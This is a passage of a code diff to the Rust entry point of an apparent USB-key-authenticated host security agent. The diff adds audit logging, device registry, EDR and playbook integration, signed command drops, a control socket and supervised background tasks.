@@ -1,20 +1,86 @@
-use anyhow::{anyhow, Result};
+use anyhow::{anyhow, Context, Result};
 use async_trait::async_trait;
-use observer::connector::{Device, DeviceInfo, DeviceManager, DeviceType, SecurityManager, UsbKey};
+use file_monitor_core::{
+    shutdown, ControlSocket, CtlRequest, RestartPolicy, ShutdownToken, StartupProfile, Supervisor,
+    TaskState, TlsClient, TlsClientSettings,
+};
+use observer::action_lock::{ActionLock, ActionLockConfig};
+use observer::approval::{ApprovalPolicy, ConsoleApprovalPrompt};
+use observer::audit::{AuditLog, AuditRecord};
+use observer::audit_forward::AuditForwarder;
+use observer::batch::KeyBatches;
+use observer::command_drop::{CommandDrop, CommandDropConfig};
+use observer::connector::{
+    Device, DeviceInfo, DeviceManager, DeviceType, EnrolledKey, HostSection, KeyHashing,
+    KeyPurpose, MultiHostKey, SectionKey, SecurityManager, UsbKey,
+};
+use observer::device_registry::{DeviceRegistry, DeviceStatus};
+use observer::dispatcher::{CommandDispatcher, EnforcementMode};
+use observer::edr::{scan_monitored_files, EdrConfig, EdrIntegration};
+use observer::effect::{default_measurements, EffectMeter};
+use observer::evidence::EvidenceUploader;
+use observer::forensics::{ForensicConfig, ForensicMode};
 use observer::handler::CommandHandler;
+use observer::health::{Health, HealthState};
+use observer::hooks::PostCommandHooks;
+use observer::outbox::Outbox;
+use observer::platform;
+use observer::playbook::{run_playbooks_on_alerts, PlaybookConfig, RUN_PLAYBOOK};
+use observer::probe::{default_probes, PostureVerifier};
+use observer::protocol::audit_excerpt;
+use observer::result::ResultCode;
+use observer::selftest::{ScriptHashes, SelfTester};
+use observer::session::SessionContext;
+use observer::user_session::{diff_lock_states, list_user_sessions};
 use std::any::Any;
+use std::collections::HashMap;
 use std::path::Path;
+use std::process::ExitCode;
+use std::sync::Arc;
 use std::time::Duration;
+use sysinfo::{System, SystemExt};
 
 const USB_TIMEOUT: Duration = Duration::from_secs(60);
 const COMMAND_TIMEOUT: Duration = Duration::from_secs(30);
+const SESSION_POLL_INTERVAL: Duration = Duration::from_secs(5);
+const POSTURE_VERIFY_INTERVAL: Duration = Duration::from_secs(300);
+const AUDIT_FORWARD_INTERVAL: Duration = Duration::from_secs(30);
 const RESPONSE_DIR: &str = "./response";
 const EXPECTED_KEY_HASH: &str = "your_expected_key_hash_here";
-
-#[cfg(target_os = "windows")]
-const OS_SPECIFIC_DIR: &str = "win";
-#[cfg(not(target_os = "windows"))]
-const OS_SPECIFIC_DIR: &str = "nix";
+const AUDIT_LOG_PATH: &str = "./guardian-audit.jsonl";
+const PROBES_CONFIG_PATH: &str = "./probes.json";
+const DEVICE_REGISTRY_PATH: &str = "./guardian-devices.json";
+const AUDIT_SPOOL_DIR: &str = "./guardian-audit-spool";
+const AUDIT_TLS_CONFIG_PATH: &str = "./audit-tls.json";
+const ENROLLMENT_PATH: &str = "./guardian-enrollment.json";
+const KEY_HASHING_CONFIG_PATH: &str = "./key-hashing.json";
+/// Host-held key sealing this host's section of multi-host keys.
+const SECTION_KEY_PATH: &str = "./guardian-section.key";
+const MASTER_SECRET_PATH: &str = "./guardian-master.key";
+const LOCAL_APPROVAL_CONFIG_PATH: &str = "./local-approval.json";
+const POST_COMMAND_HOOKS_PATH: &str = "./post-command-hooks.json";
+const SCHEDULED_COMMAND_INTERVAL: Duration = Duration::from_secs(5);
+const SCRIPT_HASHES_PATH: &str = "./script-hashes.json";
+const SELF_TEST_INTERVAL: Duration = Duration::from_secs(900);
+const TASK_HEALTH_INTERVAL: Duration = Duration::from_secs(60);
+/// How long shutdown may take, including reverting time-boxed postures.
+const SHUTDOWN_DEADLINE: Duration = Duration::from_secs(10);
+const COMMAND_DROP_CONFIG_PATH: &str = "./command-drop.json";
+const COMMAND_DROP_NONCES_PATH: &str = "./guardian-drop-nonces.json";
+const EDR_CONFIG_PATH: &str = "./edr.json";
+const PLAYBOOKS_CONFIG_PATH: &str = "./playbooks.json";
+const ACTION_LOCK_CONFIG_PATH: &str = "./action-lock.json";
+const FORENSICS_CONFIG_PATH: &str = "./forensics.json";
+const FORENSICS_STATE_PATH: &str = "./guardian-forensics.json";
+/// Audit trigger of commands requested through the control socket.
+const CONTROL_SOCKET_TRIGGER: &str = "CONTROL_SOCKET";
+const BATCH_LEDGER_PATH: &str = "./guardian-batches.json";
+const OUTBOX_DIR: &str = "./guardian-outbox";
+const OUTBOX_RETRY_INTERVAL: Duration = Duration::from_secs(60);
+const CONTROL_SOCKET_PATH: &str = "./guardian.sock";
+/// Failed authentications in a row after which the guardian reports an auth lockout.
+const AUTH_LOCKOUT_THRESHOLD: u32 = 5;
+const DEVICE_RETRY_INTERVAL: Duration = Duration::from_secs(5);
 
 struct PlaceholderDeviceManager;
 
@@ -57,6 +123,7 @@ impl Device for PlaceholderDevice {
             name: "Placeholder".to_string(),
             id: "placeholder_id".to_string(),
             device_type: DeviceType::USB,
+            ..Default::default()
         })
     }
     async fn wait_for_command(&self, _timeout: Duration) -> Result<String> {
@@ -71,18 +138,583 @@ impl Device for PlaceholderDevice {
     }
 }
 
+/// Host ID used to pick this machine's section on multi-host keys.
+fn resolve_host_id() -> String {
+    std::env::var("GUARDIAN_HOST_ID")
+        .ok()
+        .filter(|id| !id.is_empty())
+        .or_else(|| System::new().host_name())
+        .unwrap_or_else(|| "unknown-host".to_string())
+}
+
+/// `--seal-host-section <file>` seals this host's section of a multi-host key document
+/// with the host's section key, creating the key on first use. Returns whether it ran.
+fn seal_host_section(host_id: &str) -> Result<bool> {
+    let mut args = std::env::args().skip_while(|arg| arg != "--seal-host-section");
+    if args.next().is_none() {
+        return Ok(false);
+    }
+    let path = args
+        .next()
+        .ok_or_else(|| anyhow!("--seal-host-section needs a key document"))?;
+    let mut document: MultiHostKey = serde_json::from_slice(&std::fs::read(&path)?)?;
+    let section = document
+        .hosts
+        .get_mut(host_id)
+        .ok_or_else(|| anyhow!("{} has no section for host {}", path, host_id))?;
+    SectionKey::load_or_create(SECTION_KEY_PATH)?.seal(host_id, section)?;
+    std::fs::write(&path, serde_json::to_vec_pretty(&document)?)?;
+    println!("Sealed the section for host {} in {}", host_id, path);
+    Ok(true)
+}
+
+/// Writes the host section back to the key if its counters changed since `stored`.
+async fn store_counters(
+    security_manager: &SecurityManager,
+    usb_key: &UsbKey,
+    section: Option<&HostSection>,
+    stored: &mut Option<HashMap<String, u64>>,
+) {
+    let Some(section) = section else {
+        return;
+    };
+    if stored.as_ref() == Some(&section.command_counters) {
+        return;
+    }
+    match security_manager.store_section(usb_key, section).await {
+        Ok(()) => *stored = Some(section.command_counters.clone()),
+        Err(e) => println!("Failed to write usage counters to USB key: {}", e),
+    }
+}
+
+/// `--observe` (or `GUARDIAN_MODE=observe`) audits commands without executing them.
+fn resolve_mode() -> EnforcementMode {
+    let observe_flag = std::env::args().any(|arg| arg == "--observe");
+    let observe_env = std::env::var("GUARDIAN_MODE").is_ok_and(|mode| mode == "observe");
+    if observe_flag || observe_env {
+        EnforcementMode::Observe
+    } else {
+        EnforcementMode::Enforce
+    }
+}
+
+/// Polls OS user sessions and records lock/unlock transitions in the audit log.
+async fn watch_user_sessions(
+    audit_log: Arc<AuditLog>,
+    host_id: String,
+    mode: EnforcementMode,
+    shutdown: ShutdownToken,
+) -> Result<()> {
+    let mut previous = list_user_sessions().await.unwrap_or_default();
+    loop {
+        tokio::select! {
+            _ = tokio::time::sleep(SESSION_POLL_INTERVAL) => {}
+            _ = shutdown.cancelled() => return Ok(()),
+        }
+        let current = match list_user_sessions().await {
+            Ok(sessions) => sessions,
+            Err(_) => continue,
+        };
+        for transition in diff_lock_states(&previous, &current) {
+            let session = transition.session();
+            let record = AuditRecord::event(
+                &host_id,
+                transition.event_name(),
+                mode.as_str(),
+                format!("Session {} of user {}", session.id, session.user),
+            );
+            if let Err(e) = audit_log.record(&record).await {
+                println!("Failed to write audit record: {}", e);
+            }
+        }
+        previous = current;
+    }
+}
+
+async fn verify_posture_periodically(
+    dispatcher: Arc<CommandDispatcher>,
+    shutdown: ShutdownToken,
+) -> Result<()> {
+    loop {
+        tokio::select! {
+            _ = tokio::time::sleep(POSTURE_VERIFY_INTERVAL) => {}
+            _ = shutdown.cancelled() => return Ok(()),
+        }
+        let result = dispatcher.verify_posture().await;
+        if result.code == ResultCode::PostureDrift {
+            println!("{}", result.human_message);
+        }
+    }
+}
+
+async fn run_scheduled_commands_periodically(
+    dispatcher: Arc<CommandDispatcher>,
+    shutdown: ShutdownToken,
+) -> Result<()> {
+    let mut interval = tokio::time::interval(SCHEDULED_COMMAND_INTERVAL);
+    loop {
+        tokio::select! {
+            _ = interval.tick() => {}
+            _ = shutdown.cancelled() => return Ok(()),
+        }
+        dispatcher.run_due_commands(chrono::Local::now()).await;
+    }
+}
+
+async fn run_self_tests_periodically(
+    tester: Arc<SelfTester>,
+    shutdown: ShutdownToken,
+) -> Result<()> {
+    let mut interval = tokio::time::interval(SELF_TEST_INTERVAL);
+    loop {
+        tokio::select! {
+            _ = interval.tick() => {}
+            _ = shutdown.cancelled() => return Ok(()),
+        }
+        let report = tester.run().await;
+        for result in report.results.iter().filter(|result| !result.passed) {
+            println!("Self-test {} failed: {}", result.check, result.detail);
+        }
+    }
+}
+
+/// Flushes the spool once more on shutdown, so records written while stopping are sent.
+async fn forward_audit_periodically(
+    forwarder: Arc<AuditForwarder>,
+    shutdown: ShutdownToken,
+) -> Result<()> {
+    loop {
+        match forwarder.flush().await {
+            Ok(0) => {}
+            Ok(delivered) => println!(
+                "Forwarded {} audit records to {}",
+                delivered,
+                forwarder.collector()
+            ),
+            Err(e) => println!(
+                "Audit forwarding to {} failed, will retry: {}",
+                forwarder.collector(),
+                e
+            ),
+        }
+        if shutdown.is_cancelled() {
+            return Ok(());
+        }
+        tokio::select! {
+            _ = tokio::time::sleep(AUDIT_FORWARD_INTERVAL) => {}
+            _ = shutdown.cancelled() => {}
+        }
+    }
+}
+
+/// Retries audit records spooled while the audit log was unwritable. Spooled results
+/// wait for their key instead. The guardian reports a storage failure while records
+/// stay spooled.
+async fn redeliver_audit_periodically(
+    audit_log: Arc<AuditLog>,
+    health: Health,
+    shutdown: ShutdownToken,
+) -> Result<()> {
+    let mut interval = tokio::time::interval(OUTBOX_RETRY_INTERVAL);
+    loop {
+        tokio::select! {
+            _ = interval.tick() => {}
+            _ = shutdown.cancelled() => return Ok(()),
+        }
+        match audit_log.redeliver_spooled().await {
+            Ok(0) => {}
+            Ok(written) => println!("Wrote {} spooled audit records", written),
+            Err(e) => println!("Failed to write spooled audit records: {}", e),
+        }
+        if audit_log.has_spooled().await {
+            health.raise(
+                HealthState::StorageFailure,
+                format!("Audit log {} is unwritable", audit_log.path().display()),
+            );
+        } else {
+            health.clear(HealthState::StorageFailure);
+        }
+    }
+}
+
+/// Answers `health` (JSON) and `metrics` (Prometheus text) on the control socket.
+async fn serve_control_socket(
+    socket: ControlSocket,
+    health: Health,
+    dispatcher: Arc<CommandDispatcher>,
+    shutdown: ShutdownToken,
+) -> Result<()> {
+    let (requests_tx, mut requests) = tokio::sync::mpsc::channel::<CtlRequest>(16);
+    let server = socket.run(requests_tx);
+    tokio::pin!(server);
+    loop {
+        let request = tokio::select! {
+            result = &mut server => return Ok(result?),
+            Some(request) = requests.recv() => request,
+            _ = shutdown.cancelled() => return Ok(()),
+        };
+        let report = health.report();
+        let output = match request.command.split_whitespace().collect::<Vec<_>>().as_slice() {
+            ["health"] => serde_json::to_string_pretty(&report)? + "\n",
+            ["metrics"] => report.metrics(),
+            ["playbooks"] => dispatcher
+                .playbooks()
+                .map(|config| &config.playbooks[..])
+                .unwrap_or_default()
+                .iter()
+                .map(|playbook| format!("{} - {}\n", playbook.name, playbook.description))
+                .collect(),
+            ["run-playbook", name] => {
+                let command = format!("{} {}", RUN_PLAYBOOK, name);
+                let result = dispatcher
+                    .dispatch_unattended(&command, CONTROL_SOCKET_TRIGGER)
+                    .await;
+                serde_json::to_string_pretty(&result)? + "\n"
+            }
+            _ => format!(
+                "Unknown command {:?}, expected health, metrics, playbooks or run-playbook <name>\n",
+                request.command
+            ),
+        };
+        let _ = request.reply.send(output);
+    }
+}
+
+/// Prints supervised tasks that are not running, e.g. restarting after a panic.
+async fn report_task_health_periodically(
+    supervisor: Supervisor,
+    shutdown: ShutdownToken,
+) -> Result<()> {
+    let mut interval = tokio::time::interval(TASK_HEALTH_INTERVAL);
+    loop {
+        tokio::select! {
+            _ = interval.tick() => {}
+            _ = shutdown.cancelled() => return Ok(()),
+        }
+        for task in supervisor.status().await {
+            if task.state != TaskState::Running {
+                println!(
+                    "Task {} is {:?} after {} restarts: {}",
+                    task.name,
+                    task.state,
+                    task.restarts,
+                    task.last_error.as_deref().unwrap_or("no error")
+                );
+            }
+        }
+    }
+}
+
 #[tokio::main]
-async fn main() -> Result<()> {
+async fn main() -> ExitCode {
+    match run(Health::new()).await {
+        Ok(()) => ExitCode::SUCCESS,
+        Err(e) => {
+            println!("Guardian failed: {:#}", e);
+            ExitCode::from(HealthState::exit_code_of(&e))
+        }
+    }
+}
+
+async fn run(health: Health) -> Result<()> {
     println!("Guardian starting...");
+    let profile_startup = std::env::args().any(|arg| arg == "--profile-startup");
+    let mut profile = StartupProfile::new();
+
+    let mode = resolve_mode();
+    if mode == EnforcementMode::Observe {
+        println!("Observation mode: commands will be audited but not executed");
+    }
+
+    let host_id = resolve_host_id();
+    println!("Host ID: {}", host_id);
+    if seal_host_section(&host_id)? {
+        return Ok(());
+    }
 
     let device_manager: Box<dyn DeviceManager> = Box::new(PlaceholderDeviceManager);
-    let security_manager = SecurityManager::new(EXPECTED_KEY_HASH.to_string());
-    let script_directory = Path::new(RESPONSE_DIR).join(OS_SPECIFIC_DIR);
+    profile.phase("device manager init");
+    let enrolled_key = EnrolledKey::load(ENROLLMENT_PATH)
+        .context(HealthState::PolicyError)?
+        .unwrap_or(EnrolledKey::Sha256 {
+            hash: EXPECTED_KEY_HASH.to_string(),
+        });
+    let key_hashing = if Path::new(KEY_HASHING_CONFIG_PATH).exists() {
+        KeyHashing::load(KEY_HASHING_CONFIG_PATH).context(HealthState::PolicyError)?
+    } else {
+        KeyHashing::default()
+    };
+    let mut security_manager = SecurityManager::with_enrolled_key(enrolled_key)
+        .with_key_hashing(key_hashing)
+        .with_enrollment_path(ENROLLMENT_PATH)
+        .with_master_secret_path(MASTER_SECRET_PATH)
+        .with_host_id(host_id.clone());
+    if !security_manager
+        .load_master_secret()
+        .context(HealthState::PolicyError)?
+    {
+        println!("No key has authenticated on this host yet; keyed features start after one has");
+    }
+    if let Some(section_key) =
+        SectionKey::load(SECTION_KEY_PATH).context(HealthState::PolicyError)?
+    {
+        security_manager = security_manager.with_section_key(section_key);
+    }
+    profile.phase("key config load");
+    let script_directory =
+        Path::new(RESPONSE_DIR).join(platform::current().script_directory_name());
     let command_handler = CommandHandler::new(script_directory.to_string_lossy().to_string());
+    let supervisor = Supervisor::new();
+    let outbox = Arc::new(
+        Outbox::open(OUTBOX_DIR)
+            .await
+            .context(HealthState::StorageFailure)?,
+    );
+    let pending = outbox.pending().await.len();
+    if pending > 0 {
+        println!("{} undelivered outcomes waiting in the outbox", pending);
+    }
+    let mut audit_log = AuditLog::new(AUDIT_LOG_PATH).with_outbox(Arc::clone(&outbox));
+    if let Ok(collector) = std::env::var("GUARDIAN_AUDIT_COLLECTOR") {
+        let mut forwarder = AuditForwarder::open(&collector, AUDIT_SPOOL_DIR)
+            .await
+            .context(HealthState::StorageFailure)?;
+        if Path::new(AUDIT_TLS_CONFIG_PATH).exists() {
+            let settings = TlsClientSettings::load_file(AUDIT_TLS_CONFIG_PATH)
+                .context(HealthState::PolicyError)?;
+            forwarder = forwarder.with_tls(TlsClient::new(settings)?);
+            println!("Forwarding audit records to {} over TLS", collector);
+        } else {
+            println!("Forwarding audit records to {}", collector);
+        }
+        let forwarder = Arc::new(forwarder);
+        let task_forwarder = Arc::clone(&forwarder);
+        let task_shutdown = supervisor.shutdown_token();
+        supervisor.spawn("audit-forward", RestartPolicy::default(), move || {
+            forward_audit_periodically(Arc::clone(&task_forwarder), task_shutdown.clone())
+        });
+        audit_log = audit_log.with_forwarder(forwarder);
+    }
+    let audit_log = Arc::new(audit_log);
+    let outbox_audit_log = Arc::clone(&audit_log);
+    let outbox_health = health.clone();
+    let outbox_shutdown = supervisor.shutdown_token();
+    supervisor.spawn("outbox", RestartPolicy::default(), move || {
+        redeliver_audit_periodically(
+            Arc::clone(&outbox_audit_log),
+            outbox_health.clone(),
+            outbox_shutdown.clone(),
+        )
+    });
+    profile.phase("audit log open");
+    let session_audit_log = Arc::clone(&audit_log);
+    let session_host_id = host_id.clone();
+    let session_shutdown = supervisor.shutdown_token();
+    supervisor.spawn("user-sessions", RestartPolicy::default(), move || {
+        watch_user_sessions(
+            Arc::clone(&session_audit_log),
+            session_host_id.clone(),
+            mode,
+            session_shutdown.clone(),
+        )
+    });
+    let posture_verifier = match PostureVerifier::load(PROBES_CONFIG_PATH) {
+        Ok(verifier) => verifier,
+        Err(e) => {
+            println!("Failed to load posture probes config: {}", e);
+            health.raise(
+                HealthState::PolicyError,
+                format!(
+                    "Invalid {}, using default probes: {}",
+                    PROBES_CONFIG_PATH, e
+                ),
+            );
+            PostureVerifier::new(default_probes())
+        }
+    };
+    let device_registry = DeviceRegistry::load(DEVICE_REGISTRY_PATH)
+        .await
+        .context(HealthState::StorageFailure)?;
+    profile.phase("device registry open");
+    let post_command_hooks = if Path::new(POST_COMMAND_HOOKS_PATH).exists() {
+        PostCommandHooks::load(POST_COMMAND_HOOKS_PATH).context(HealthState::PolicyError)?
+    } else {
+        PostCommandHooks::default()
+    };
+    let mut dispatcher = CommandDispatcher::new(command_handler, host_id);
+    if Path::new(LOCAL_APPROVAL_CONFIG_PATH).exists() {
+        dispatcher = dispatcher.with_local_approval(
+            ApprovalPolicy::load(LOCAL_APPROVAL_CONFIG_PATH).context(HealthState::PolicyError)?,
+            Arc::new(ConsoleApprovalPrompt),
+        );
+    }
+    if Path::new(EDR_CONFIG_PATH).exists() {
+        let config = EdrConfig::load(EDR_CONFIG_PATH).context(HealthState::PolicyError)?;
+        let edr = EdrIntegration::new(config, dispatcher.host_id());
+        dispatcher = dispatcher.with_edr(edr);
+    }
+    if Path::new(PLAYBOOKS_CONFIG_PATH).exists() {
+        let config = PlaybookConfig::load(PLAYBOOKS_CONFIG_PATH, dispatcher.native_commands())
+            .context(HealthState::PolicyError)?;
+        dispatcher = dispatcher.with_playbooks(config);
+    }
+    if Path::new(ACTION_LOCK_CONFIG_PATH).exists() {
+        let config =
+            ActionLockConfig::load(ACTION_LOCK_CONFIG_PATH).context(HealthState::PolicyError)?;
+        dispatcher = dispatcher.with_action_lock(ActionLock::new(config, "guardian"));
+    }
+    let forensic_config = if Path::new(FORENSICS_CONFIG_PATH).exists() {
+        ForensicConfig::load(FORENSICS_CONFIG_PATH).context(HealthState::PolicyError)?
+    } else {
+        ForensicConfig::default()
+    };
+    let forensics = Arc::new(
+        ForensicMode::open(
+            forensic_config,
+            FORENSICS_STATE_PATH,
+            supervisor.shutdown_token(),
+        )
+        .context(HealthState::PolicyError)?,
+    );
+    forensics.resume().await;
+    dispatcher = dispatcher.with_forensics(forensics);
+    dispatcher = dispatcher
+        .with_mode(mode)
+        .with_audit_log(Arc::clone(&audit_log))
+        .with_outbox(outbox)
+        .with_posture_verifier(posture_verifier)
+        .with_effect_meter(EffectMeter::new(default_measurements()))
+        .with_post_command_hooks(post_command_hooks);
+    match security_manager.derive_key(KeyPurpose::EvidenceEncryption) {
+        Ok(key) => dispatcher = dispatcher.with_evidence_uploader(EvidenceUploader::new(key)),
+        Err(e) => println!("Evidence upload disabled until restart: {}", e),
+    }
+    let dispatcher = Arc::new(dispatcher);
+    profile.phase("dispatcher setup");
+    let posture_dispatcher = Arc::clone(&dispatcher);
+    let posture_shutdown = supervisor.shutdown_token();
+    supervisor.spawn("posture-verify", RestartPolicy::default(), move || {
+        verify_posture_periodically(Arc::clone(&posture_dispatcher), posture_shutdown.clone())
+    });
+    let schedule_dispatcher = Arc::clone(&dispatcher);
+    let schedule_shutdown = supervisor.shutdown_token();
+    supervisor.spawn("scheduled-commands", RestartPolicy::default(), move || {
+        run_scheduled_commands_periodically(
+            Arc::clone(&schedule_dispatcher),
+            schedule_shutdown.clone(),
+        )
+    });
+    let script_hashes = if Path::new(SCRIPT_HASHES_PATH).exists() {
+        ScriptHashes::load(SCRIPT_HASHES_PATH).context(HealthState::PolicyError)?
+    } else {
+        ScriptHashes::default()
+    };
+    let self_tester = Arc::new(SelfTester::new(
+        Arc::clone(&dispatcher),
+        Arc::clone(&audit_log),
+        &script_directory,
+        script_hashes,
+    ));
+    let self_test_shutdown = supervisor.shutdown_token();
+    supervisor.spawn("self-test", RestartPolicy::default(), move || {
+        run_self_tests_periodically(Arc::clone(&self_tester), self_test_shutdown.clone())
+    });
+    if Path::new(COMMAND_DROP_CONFIG_PATH).exists() {
+        let config =
+            CommandDropConfig::load(COMMAND_DROP_CONFIG_PATH).context(HealthState::PolicyError)?;
+        match security_manager.derive_key(KeyPurpose::CommandSigning) {
+            Ok(signing_key) => {
+                let command_drop = Arc::new(
+                    CommandDrop::open(
+                        config,
+                        dispatcher.host_id(),
+                        signing_key,
+                        COMMAND_DROP_NONCES_PATH,
+                    )
+                    .await?,
+                );
+                println!(
+                    "Accepting signed commands from {}",
+                    command_drop.dir().display()
+                );
+                let drop_dispatcher = Arc::clone(&dispatcher);
+                let drop_shutdown = supervisor.shutdown_token();
+                supervisor.spawn("command-drop", RestartPolicy::default(), move || {
+                    Arc::clone(&command_drop)
+                        .watch(Arc::clone(&drop_dispatcher), drop_shutdown.clone())
+                });
+            }
+            Err(e) => println!("Signed command drop disabled until restart: {}", e),
+        }
+    }
+    if dispatcher.edr().is_some() {
+        let edr_dispatcher = Arc::clone(&dispatcher);
+        let edr_shutdown = supervisor.shutdown_token();
+        supervisor.spawn("edr-watch", RestartPolicy::default(), move || {
+            scan_monitored_files(Arc::clone(&edr_dispatcher), edr_shutdown.clone())
+        });
+    }
+    // Opened once a key has authenticated, since batches are checked with a derived key.
+    let mut key_batches: Option<KeyBatches> = None;
+    if dispatcher.playbooks().is_some() {
+        let playbook_dispatcher = Arc::clone(&dispatcher);
+        let playbook_shutdown = supervisor.shutdown_token();
+        supervisor.spawn("playbook-alerts", RestartPolicy::default(), move || {
+            run_playbooks_on_alerts(Arc::clone(&playbook_dispatcher), playbook_shutdown.clone())
+        });
+    }
+    let health_supervisor = supervisor.clone();
+    let health_shutdown = supervisor.shutdown_token();
+    supervisor.spawn("task-health", RestartPolicy::default(), move || {
+        report_task_health_periodically(health_supervisor.clone(), health_shutdown.clone())
+    });
+    let socket = ControlSocket::new(
+        std::env::var("GUARDIAN_CONTROL_SOCKET")
+            .unwrap_or_else(|_| CONTROL_SOCKET_PATH.to_string()),
+        supervisor.shutdown_token(),
+    );
+    let control_health = health.clone();
+    let control_dispatcher = Arc::clone(&dispatcher);
+    let control_shutdown = supervisor.shutdown_token();
+    supervisor.spawn("control-socket", RestartPolicy::default(), move || {
+        serve_control_socket(
+            socket.clone(),
+            control_health.clone(),
+            Arc::clone(&control_dispatcher),
+            control_shutdown.clone(),
+        )
+    });
+    profile.phase("background tasks");
+    if profile_startup {
+        print!("{}", profile.report());
+    }
 
-    loop {
+    // Ctrl-C or SIGTERM interrupts waiting for a key or a command; a command already
+    // running is finished first.
+    let signal = shutdown::signal();
+    tokio::pin!(signal);
+
+    let mut failed_authentications = 0;
+    'devices: loop {
         println!("Waiting for USB key...");
-        let mut device = device_manager.wait_for_device(USB_TIMEOUT).await?;
+        let device = tokio::select! {
+            device = device_manager.wait_for_device(USB_TIMEOUT) => device,
+            _ = &mut signal => break 'devices,
+        };
+        let mut device = match device {
+            Ok(device) => {
+                health.clear(HealthState::DegradedNoDevice);
+                device
+            }
+            Err(e) => {
+                println!("Failed to wait for a device: {}", e);
+                health.raise(HealthState::DegradedNoDevice, e.to_string());
+                tokio::select! {
+                    _ = tokio::time::sleep(DEVICE_RETRY_INTERVAL) => continue,
+                    _ = &mut signal => break 'devices,
+                }
+            }
+        };
 
         let device_any = device.as_any_mut();
         if let Some(usb_key) = device_any.downcast_mut::<UsbKey>() {
@@ -92,20 +724,174 @@ async fn main() -> Result<()> {
                 continue;
             }
 
+            let mut device = None;
+            match usb_key.get_info().await {
+                Ok(info) => match device_registry.observe(&info).await {
+                    Ok(sighting) => {
+                        let fingerprint = &sighting.record.fingerprint;
+                        if sighting.is_new {
+                            println!("New device never seen before: {}", fingerprint);
+                            let record = AuditRecord::event(
+                                dispatcher.host_id(),
+                                "NEW_DEVICE",
+                                dispatcher.mode().as_str(),
+                                format!("First sighting of {}", info.name),
+                            )
+                            .with_device_fingerprint(Some(fingerprint));
+                            if let Err(e) = audit_log.record(&record).await {
+                                println!("Failed to write audit record: {}", e);
+                                health.raise(HealthState::StorageFailure, e.to_string());
+                            }
+                        }
+                        if sighting.record.status == DeviceStatus::Blocked {
+                            println!("Device {} is blocked. Ignoring.", fingerprint);
+                            continue;
+                        }
+                        device = Some(sighting.record);
+                    }
+                    Err(e) => println!("Failed to update device registry: {}", e),
+                },
+                Err(e) => println!("Failed to read device info: {}", e),
+            }
+
+            if let Some(results) = dispatcher.check_panic(usb_key, device.as_ref()).await {
+                for result in results {
+                    println!(
+                        "Emergency posture ({:?}): {}",
+                        result.code, result.human_message
+                    );
+                }
+            }
+
             println!("Authenticating USB key...");
-            if let Err(e) = security_manager.authenticate_key(usb_key).await {
-                println!("Authentication failed: {}", e);
+            if let Err(failure) = security_manager.verify_key(usb_key).await {
+                println!("Authentication failed: {}", failure);
+                failed_authentications += 1;
+                if failed_authentications >= AUTH_LOCKOUT_THRESHOLD {
+                    health.raise(
+                        HealthState::AuthLockout,
+                        format!(
+                            "{} failed authentications in a row, last: {}",
+                            failed_authentications, failure
+                        ),
+                    );
+                }
+                let record = AuditRecord::event(
+                    dispatcher.host_id(),
+                    "AUTH_FAILED",
+                    dispatcher.mode().as_str(),
+                    failure.to_string(),
+                )
+                .with_trigger(failure.reason())
+                .with_device_fingerprint(usb_key.fingerprint());
+                if let Err(e) = audit_log.record(&record).await {
+                    println!("Failed to write audit record: {}", e);
+                    health.raise(HealthState::StorageFailure, e.to_string());
+                }
                 continue;
             }
 
+            failed_authentications = 0;
+            health.clear(HealthState::AuthLockout);
+
+            let mut host_section = match security_manager.host_section(usb_key).await {
+                Ok(section) => section,
+                Err(e) => {
+                    println!("Failed to load host section: {}", e);
+                    continue;
+                }
+            };
+
+            if dispatcher.mode_for(host_section.as_ref()) == EnforcementMode::Training {
+                println!("Training key: commands will be audited but not executed");
+            }
+            if let Some(result) = dispatcher
+                .enter_forensics(usb_key, host_section.as_ref())
+                .await
+            {
+                println!("{}", result.human_message);
+            }
+
+            let (mut session, resumed) =
+                SessionContext::resume_or_new(usb_key, dispatcher.host_id()).await;
+            if resumed {
+                println!(
+                    "Resuming session {} after result #{}",
+                    session.session_id, session.last_result_index
+                );
+            }
+
+            let delivered = dispatcher.deliver_outbox(usb_key).await;
+            if delivered > 0 {
+                println!("Wrote {} spooled results back to the key", delivered);
+            }
+
+            let mut stored_counters = host_section
+                .as_ref()
+                .map(|section| section.command_counters.clone());
+            if key_batches.is_none() {
+                if let Ok(signing_key) = security_manager.derive_key(KeyPurpose::CommandSigning) {
+                    match KeyBatches::open(dispatcher.host_id(), signing_key, BATCH_LEDGER_PATH)
+                        .await
+                    {
+                        Ok(batches) => key_batches = Some(batches),
+                        Err(e) => println!("Failed to open batch ledger: {}", e),
+                    }
+                }
+            }
+            if let Some(key_batches) = &key_batches {
+                if let Some(result) = key_batches
+                    .process(usb_key, host_section.as_mut(), &dispatcher)
+                    .await
+                {
+                    println!("Batch ({:?}): {}", result.code, result.human_message);
+                }
+            }
+            store_counters(
+                &security_manager,
+                usb_key,
+                host_section.as_ref(),
+                &mut stored_counters,
+            )
+            .await;
+
             println!("USB key authenticated. Waiting for commands...");
+            let mut shutting_down = false;
             loop {
-                match usb_key.wait_for_command(COMMAND_TIMEOUT).await {
+                let command = tokio::select! {
+                    command = usb_key.wait_for_command(COMMAND_TIMEOUT) => command,
+                    _ = &mut signal => {
+                        shutting_down = true;
+                        break;
+                    }
+                };
+                match command {
                     Ok(command) => {
-                        println!("Received command: {}", command);
-                        match command_handler.handle_command(&command).await {
-                            Ok(result) => println!("Command executed successfully: {}", result),
-                            Err(e) => println!("Error executing command: {}", e),
+                        println!("Received command: {}", audit_excerpt(command.as_bytes()));
+                        let result = dispatcher
+                            .dispatch_raw(usb_key, host_section.as_mut(), command.as_bytes())
+                            .await;
+                        store_counters(
+                            &security_manager,
+                            usb_key,
+                            host_section.as_ref(),
+                            &mut stored_counters,
+                        )
+                        .await;
+                        match result.code {
+                            ResultCode::Ok => {
+                                println!("Command executed successfully: {}", result.human_message)
+                            }
+                            ResultCode::Observed => println!("{}", result.human_message),
+                            code => println!(
+                                "Error executing command ({:?}): {}",
+                                code, result.human_message
+                            ),
+                        }
+
+                        session.record(&command, &result);
+                        if let Err(e) = session.save(usb_key).await {
+                            println!("Failed to save session context to USB key: {}", e);
                         }
                     }
                     Err(e) => {
@@ -119,23 +905,49 @@ async fn main() -> Result<()> {
             if let Err(e) = usb_key.disconnect().await {
                 println!("Error disconnecting USB key: {}", e);
             }
+            if shutting_down {
+                break 'devices;
+            }
         } else {
             println!("Connected device is not a USB key. Ignoring.");
         }
     }
+
+    println!("Guardian shutting down...");
+    let deadline = tokio::time::Instant::now() + SHUTDOWN_DEADLINE;
+    match tokio::time::timeout_at(deadline, dispatcher.run_shutdown_commands()).await {
+        Ok(0) => {}
